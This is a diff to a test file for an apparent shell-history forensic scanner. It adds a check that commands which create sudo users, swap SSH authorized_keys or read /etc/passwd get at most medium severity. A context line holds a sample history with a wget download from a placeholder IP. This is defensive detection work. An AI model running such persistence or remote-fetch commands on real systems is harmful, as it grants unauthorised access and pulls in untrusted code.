@@ -15,6 +15,24 @@ def test_histories_and_silenced_histories() -> None:
     assert len(events) == 2
 
 
+def test_what_administrators_type_every_day_accuses_nobody_alone() -> None:
+    """Commands of a public system's own administrator, which were grave."""
+    typed = """adduser admin
+adduser admin sudo
+usermod -aG sudo web
+mv .ssh/authorized_hosts .ssh/authorized_keys
+awk -F':' '{ print $1}' /etc/passwd
+git rm -r --cached /var/log/
+"""
+    findings, _ = shell_histories.examine(
+        Builder().add("/root/.bash_history", typed.encode()).tree(), coverage=Coverage()
+    )
+    assert {f.severity for f in findings} <= {"info", "low", "medium"}
+    assert sorted(f.detail for f in findings if f.technique in ("T1098", "T1098.004")) == [
+        "adduser admin sudo", "mv .ssh/authorized_hosts .ssh/authorized_keys", "usermod -aG sudo web",
+    ]  # fmt: skip
+
+
 def test_history_times() -> None:
     text = "#1767323045\nid\nuname -a\n: 1767323050:0;wget http://198.51.100.7/x\n\n"
     found = [(time.second if time else None, command) for time, command in shell_histories.commands(text)]
